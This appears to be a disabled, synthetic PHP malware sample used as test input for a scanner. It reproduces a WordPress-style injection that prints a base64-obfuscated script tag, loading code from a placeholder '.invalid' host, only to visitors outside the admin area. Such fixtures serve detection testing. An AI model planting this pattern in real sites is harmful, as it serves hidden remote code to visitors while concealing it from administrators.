<?php
// synthetic test sample for breachscan: prints a base64-encoded script tag to visitors that
// are not in the admin area. Host is .invalid; disabled.
return;
if (strpos(@$_SERVER["REQUEST_URI"], "/wp-admin") === false) { print(base64_decode("PHNjcmlwdCBzcmM9Ii8vYWRzLmV4YW1wbGUuaW52YWxpZC9sLmpzIj48L3NjcmlwdD4=")); }
